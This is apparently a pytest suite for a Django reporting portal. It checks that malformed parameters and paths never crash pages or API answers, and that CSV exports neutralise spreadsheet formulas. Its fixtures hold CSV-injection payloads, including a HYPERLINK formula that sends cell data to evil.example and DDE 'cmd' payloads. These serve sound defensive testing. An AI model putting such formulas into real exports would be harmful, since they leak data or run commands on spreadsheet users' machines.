"""Malformed parameters never make a page or an API answer fail (a default, or
400 with a message), and no CSV the portal writes carries a formula."""

import csv
import html
import io
import time

import pytest
from django.test import Client
from django.utils import translation
from rest_framework.authtoken.models import Token

from mandates.models import Mandate
from progress import services
from public_site.opendata.dictionary import CSV_FORMULA_NOTE
from tests.factories import CapacityFactory, GoodPracticeFactory, ProgressReportFactory

pytestmark = pytest.mark.django_db

HOSTILE = ["²", "\x00", "-1", "99999999999999999999999", "1e5000", "", "abc", "[]"]
# Decimal("-1e400000") made an int costs seconds: each answer must come at once.
SLOW = "-1e400000"
# seconds: a guard against that, far above a normal answer on a busy machine
PATIENCE = 3.0
REPORT_FILTERS = [
    "cycle",
    "participant",
    "participant_kind",
    "section",
    "mandate",
    "implementation_level",
    "assistance_type",
    "published_after",
    "page",
]
SEARCH = ["q", "kind", "participant", "section", "mandate", "support", "year"]
PUBLIC = {
    "/en/mandates/40/": ["cycle"],
    "/en/participants/ARG/": ["cycle"],
    "/en/reports/": REPORT_FILTERS,
    "/en/open-data/reports.csv": REPORT_FILTERS,
    "/en/open-data/indicator-values.json": ["cycle", "mandate"],
    "/en/dashboards/": ["cycle"],
    "/en/dashboards/matrix/": ["cycle", "participant_kind", "section"],
    "/en/dashboards/matrix.csv": ["cycle", "participant_kind", "section"],
    "/en/dashboards/mandates/40/": ["cycle"],
    "/en/dashboards/participants/ARG/": ["cycle"],
    "/en/good-practices/": [*SEARCH, "language", "page"],
    "/en/good-practices/results.csv": SEARCH,
    "/en/cooperation/": ["status", "page"],
    "/en/cooperation/initiatives.csv": ["status"],
    "/en/cooperation/needs/": ["page"],
    "/api/v1/mandates/": [
        "section",
        "has_section",
        "number",
        "number_min",
        "number_max",
        "topic_confidence",
        "page",
    ],
    "/api/v1/participants/": ["kind", "code", "ordering", "page"],
    "/api/v1/good-practices/": [*SEARCH, "language", "page"],
    "/api/v1/capacities/": [*SEARCH, "page"],
    "/api/v1/cycles/": ["ordering", "page"],
    "/api/v1/reports/": [*REPORT_FILTERS, "ordering"],
    "/api/v1/dashboards/sections/": ["cycle"],
    "/api/v1/dashboards/matrix/": ["cycle", "participant_kind", "section"],
}
SIGNED_IN = {
    "focal": {
        "/en/workspace/ARG/": ["cycle"],
        "/en/good-practices/mine/": ["page"],
        "/api/v1/workspace/reports/": ["cycle", "participant", "mandate", "status"],
    },
    "secretariat": {
        "/en/review/": ["cycle", "participant", "section", "status", "page"],
        "/en/good-practices/moderation/": ["kind", "page"],
        "/en/indicator-reports/": ["page"],
    },
}


@pytest.fixture
def published(cycle):
    report = ProgressReportFactory(cycle=cycle, mandate=Mandate.objects.get(number=40))
    GoodPracticeFactory()
    CapacityFactory()
    return report


def answer(client, url, params):
    """The status and the whole body (a streamed file is read to its end)."""
    response = client.get(url, params)
    if response.streaming:
        return response.status_code, b"".join(response.streaming_content)
    return response.status_code, response.content


def failures(client, url, names) -> list:
    found = []
    for name in names:
        for value in [*HOSTILE, SLOW]:
            started = time.perf_counter()
            status, body = answer(client, url, {name: value})
            if status not in (200, 400) or (status == 400 and not body):
                found.append((name, value, status))
            if time.perf_counter() - started > PATIENCE:
                found.append((name, value, "slow"))
    return found


@pytest.mark.parametrize("url", PUBLIC)
def test_hostile_parameters_never_fail_a_public_page_or_answer(client, published, url):
    assert failures(client, url, PUBLIC[url]) == []


@pytest.mark.parametrize("who", SIGNED_IN)
def test_hostile_parameters_never_fail_a_signed_in_page(
    client, published, focal, secretariat, who
):
    user = {"focal": focal, "secretariat": secretariat}[who]
    client.force_login(user)
    client.defaults["HTTP_AUTHORIZATION"] = f"Token {Token.objects.create(user=user)}"
    for url, names in SIGNED_IN[who].items():
        assert failures(client, url, names) == [], url


def test_a_malformed_cycle_is_answered_400_by_the_dashboards_api(client, published):
    response = client.get("/api/v1/dashboards/sections/", {"cycle": "²"})
    assert response.status_code == 400
    assert response.json() == {"cycle": ["Give the id of a cycle."]}
    default = client.get("/api/v1/dashboards/sections/", {"cycle": ""})
    assert default.status_code == 200
    assert sum(row["total"] for row in default.json()) == 1


def test_a_malformed_cycle_falls_back_to_the_latest_on_pages(client, published):
    page = client.get("/en/dashboards/", {"cycle": "²"})
    assert page.context["cycle"].pk == published.cycle.pk


def test_malformed_filters_of_the_review_queue_are_ignored(
    client, secretariat, focal, participant, mandate, cycle, complete_answers
):
    report = services.report_start(
        user=focal, participant=participant, mandate=mandate, cycle=cycle
    )[0]
    report = services.report_update(
        user=focal,
        report=report,
        version=1,
        content={"implementation_level": "advanced", "actions_taken": "A law."},
        indicators=complete_answers,
    )
    services.report_submit(user=focal, report=report, version=report.version)
    client.force_login(secretariat)
    for query in [{"participant": "\x00"}, {"section": "\x00"}, {"status": "²"}]:
        page = client.get("/en/review/", query)
        assert [r.pk for r in page.context["page"]] == [report.pk]


@pytest.mark.parametrize(
    "url",
    [
        "/en/participants/%00/",
        "/en/dashboards/participants/%00/",
        "/en/mandates/99999999999999999999999/",
        "/en/dashboards/mandates/99999999999999999999999/",
        "/en/reports/99999999999999999999999/",
        "/en/good-practices/99999999999999999999999/",
        "/api/v1/reports/99999999999999999999999/",
        "/api/v1/participants/%00/",
        "/api/v1/mandates/99999999999999999999999/",
        "/api/v1/dashboards/mandates/99999999999999999999999/",
    ],
)
def test_hostile_values_in_the_path_are_404(client, url):
    assert client.get(url).status_code == 404


def test_hostile_code_in_the_workspace_path_is_404(client, focal):
    client.force_login(focal)
    assert client.get("/en/workspace/%00/").status_code == 404


# --- CSV files and formulas ----------------------------------------------------------

FORMULAS = {
    "actions_taken": '=HYPERLINK("http://evil.example/?"&A1,"Details")',
    "results": "=cmd|' /C calc'!A0",
    "challenges": "@SUM(1+1)*cmd|' /C calc'!A0",
    "next_steps": "+1+1",
}


def csv_cells(client, url) -> list[dict]:
    status, body = answer(Client(), url, {})
    assert status == 200
    return list(csv.DictReader(io.StringIO(body.decode())))


def test_public_reports_and_values_csv_neutralise_formulas(client, cycle):
    ProgressReportFactory(
        cycle=cycle,
        mandate=Mandate.objects.get(number=40),
        indicator_values={"40.1": "=1+2", "40.2": -5},
        **FORMULAS,
    )
    [row] = csv_cells(client, "/en/open-data/reports.csv")
    for key, text in FORMULAS.items():
        assert row[key] == "'" + text
    values = {
        r["indicator_code"]: r["value"]
        for r in csv_cells(client, "/en/open-data/indicator-values.csv")
    }
    assert values == {"40.1": "'=1+2", "40.2": "-5"}


def test_search_results_csv_neutralises_formulas(client):
    GoodPracticeFactory(title='=HYPERLINK("http://evil.example","Open")')
    [row] = csv_cells(client, "/en/good-practices/results.csv")
    assert row["title"] == '\'=HYPERLINK("http://evil.example","Open")'


@pytest.mark.parametrize("language", ["en", "es", "pt", "fr"])
def test_data_dictionary_says_how_csv_cells_are_neutralised(client, language):
    with translation.override(language):
        note = str(CSV_FORMULA_NOTE)
    if language != "en":
        with translation.override("en"):
            assert note != str(CSV_FORMULA_NOTE)
    page = client.get(f"/{language}/open-data/dictionary/").content.decode()
    assert note in html.unescape(page)
    package = client.get(f"/{language}/open-data/datapackage.json").json()
    for resource in package["resources"]:
        assert (note in resource["description"]) == (resource["format"] == "csv")
